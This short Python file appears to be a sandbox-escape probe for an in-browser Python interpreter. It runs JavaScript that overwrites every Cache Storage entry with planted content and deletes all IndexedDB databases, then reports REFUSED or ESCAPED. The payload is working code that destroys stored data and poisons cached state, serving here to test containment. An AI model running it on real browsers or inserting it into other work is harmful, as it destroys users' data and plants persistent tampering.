# Tries (persistence, browser): replace what the page keeps in Cache Storage and IndexedDB (the cached
# interpreter snapshot among it) with planted data, so later runs in this browser boot from it.
import asyncio

SCRIPT = """(async () => {
  const touched = [];
  if (globalThis.caches) {
    for (const name of await caches.keys()) {
      const cache = await caches.open(name);
      for (const request of await cache.keys()) {
        await cache.put(request, new Response('PLANTED'));
        touched.push(request.url);
      }
    }
  }
  if (globalThis.indexedDB?.databases) {
    for (const db of await indexedDB.databases()) { indexedDB.deleteDatabase(db.name); touched.push(db.name); }
  }
  return JSON.stringify(touched);
})()"""


async def main():
    try:
        import js

        touched = await js.eval(SCRIPT)
    except Exception as exc:
        print("REFUSED:", type(exc).__name__, exc)
    else:
        print("ESCAPED: planted into", touched)


asyncio.run(main())
